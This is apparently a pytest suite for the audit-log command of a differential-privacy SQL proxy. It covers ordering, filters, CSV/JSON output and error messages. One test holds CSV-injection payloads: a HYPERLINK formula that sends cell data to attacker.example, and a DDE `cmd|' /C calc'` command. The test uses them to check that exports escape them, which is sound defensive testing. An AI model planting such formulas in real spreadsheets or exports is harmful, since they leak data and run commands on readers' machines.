"""`dpproxy audit`: the statements `dpproxy query` sent (client "local"), read back with filters in
a table, CSV and JSON; and its errors for a bad time or a missing ledger."""

from __future__ import annotations

import csv
import io
import json
import shutil
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner

from dpproxy.audit import AuditEntry
from dpproxy.cli import format_audit, main
from dpproxy.privacy.accounting import Cost

POLICY = Path(__file__).resolve().parents[1] / "dpproxy" / "data" / "demo.yaml"


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def ledger(demo_duckdb: Path, tmp_path: Path) -> str:
    """A ledger after three `dpproxy query` runs: two answered (one with a parameter), one refused."""
    backend = tmp_path / "demo.duckdb"
    shutil.copy(demo_duckdb, backend)
    path = str(tmp_path / "ledger.sqlite")
    common = ("query", "--policy", str(POLICY), "--backend", str(backend), "--ledger", path)
    assert run(*common, "--analyst", "alice", "SELECT COUNT(*) FROM patients")[0] == 0
    assert (
        run(*common, "--analyst", "bob", "--param", "40", "SELECT COUNT(*) FROM visits WHERE cost > $1")[0]
        == 0
    )
    assert run(*common, "--analyst", "alice", "SELECT income FROM patients")[0] == 1
    return path


def test_the_table_lists_every_statement_newest_first(ledger: str) -> None:
    code, out, _ = run("audit", "--ledger", ledger)
    assert code == 0, out
    lines = out.splitlines()
    assert lines[0].split("|")[0].strip() == "at" and lines[-1] == "(3 rows)"
    body = lines[2:-1]
    assert "SELECT income FROM patients" in body[0] and "refused" in body[0] and "42501" in body[0]
    assert "SELECT COUNT(*) FROM visits WHERE cost > $1 -- [40]" in body[1] and "| bob" in body[1]
    assert "SELECT COUNT(*) FROM patients" in body[2] and "| local" in body[2] and "private" in body[2]


def test_filters(ledger: str) -> None:
    def statements(*args: str) -> list[str]:
        code, out, err = run("audit", "--ledger", ledger, "--format", "json", *args)
        assert code == 0, err
        return [entry["statement"] for entry in json.loads(out)]

    assert statements("--analyst", "bob") == ["SELECT COUNT(*) FROM visits WHERE cost > $1"]
    assert statements("--status", "refused") == ["SELECT income FROM patients"]
    assert statements("--status", "ok", "--limit", "1") == ["SELECT COUNT(*) FROM visits WHERE cost > $1"]
    tomorrow = (datetime.now(UTC) + timedelta(days=1)).date().isoformat()
    assert statements("--since", tomorrow) == []
    assert len(statements("--until", tomorrow)) == 3
    assert statements("--since", "2000-01-01T00:00", "--until", "2000-01-02") == []


def test_csv_and_json_carry_every_field(ledger: str) -> None:
    code, out, _ = run("audit", "--ledger", ledger, "--format", "csv", "--analyst", "bob")
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["statement"] == "SELECT COUNT(*) FROM visits WHERE cost > $1"
    assert (row["parameters"], row["client"], row["status"], row["sqlstate"]) == ("[40]", "local", "ok", "")
    assert (float(row["epsilon"]), row["kind"], row["rows"], row["replayed"]) == (
        0.5,
        "private",
        "1",
        "False",
    )
    assert set(json.loads(row["stages"])) >= {"plan", "backend", "noise"} and row["entry_id"] == "2"
    code, out, _ = run("audit", "--ledger", ledger, "--format", "json", "--status", "refused")
    (entry,) = json.loads(out)
    assert entry["analyst"] == "alice" and entry["sqlstate"] == "42501" and entry["epsilon"] == 0
    assert entry["entry_id"] is None and entry["parameters"] == [] and entry["rows"] == 0
    assert datetime.fromisoformat(entry["at"]).tzinfo is not None


def test_errors(ledger: str, tmp_path: Path) -> None:
    code, _, err = run("audit", "--ledger", ledger, "--since", "last tuesday")
    assert code == 2 and "'last tuesday' is not an ISO 8601 date or time" in err and "--since" in err
    code, _, err = run("audit", "--ledger", ledger, "--status", "lost")
    assert code == 2 and "'lost' is not one of" in err
    missing = tmp_path / "nowhere.sqlite"
    code, _, err = run("audit", "--ledger", str(missing))
    assert code == 1 and f"no privacy ledger at {missing}" in err
    assert not missing.exists()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_evaluate_start_with_a_quote(start: str) -> None:
    """OWASP's CSV-injection advice: a text cell starting with = + - @, a tab or a carriage return
    gets a leading single quote, so that opening the export never runs what an analyst wrote."""
    statement = f'{start}HYPERLINK("https://attacker.example/?"&A1, "click")'
    entry = AuditEntry(
        id=1,
        at=datetime(2024, 5, 1, 12, 0, tzinfo=UTC),
        analyst="alice",
        client=f"{start}client",
        session_id="s1",
        statement_id=1,
        statement=statement,
        parameters=(f"{start}cmd|' /C calc'!A0", -1),
        kind="query",
        status="refused",
        sqlstate="42601",
        cost=Cost(0.0, 0.0),
        replayed=False,
        rows=0,
        duration=0.25,
        stages={"plan": 0.25},
    )
    (row,) = list(csv.DictReader(io.StringIO(format_audit([entry], "csv"), newline="")))
    assert row["statement"] == "'" + statement
    assert row["client"] == f"'{start}client"
    # The parameters are one JSON array (never starting with a formula character), numbers are numbers.
    assert json.loads(row["parameters"]) == [f"{start}cmd|' /C calc'!A0", -1]
    assert (row["analyst"], row["epsilon"], row["duration"], row["sqlstate"]) == (
        "alice",
        "0.0",
        "0.25",
        "42601",
    )


def test_csv_leaves_ordinary_text_as_it_is() -> None:
    entry = AuditEntry(
        id=1,
        at=datetime(2024, 5, 1, 12, 0, tzinfo=UTC),
        analyst="alice",
        client="127.0.0.1:5000",
        session_id="s1",
        statement_id=1,
        statement="SELECT COUNT(*) FROM patients WHERE age > -1",
        parameters=(),
        kind="private",
        status="ok",
        sqlstate=None,
        cost=Cost(0.5, 0.0),
        replayed=False,
        rows=1,
        duration=None,
        stages={},
    )
    (row,) = list(csv.DictReader(io.StringIO(format_audit([entry], "csv"), newline="")))
    assert row["statement"] == entry.statement and row["client"] == "127.0.0.1:5000"
    assert row["at"] == "2024-05-01T12:00:00+00:00" and row["duration"] == ""
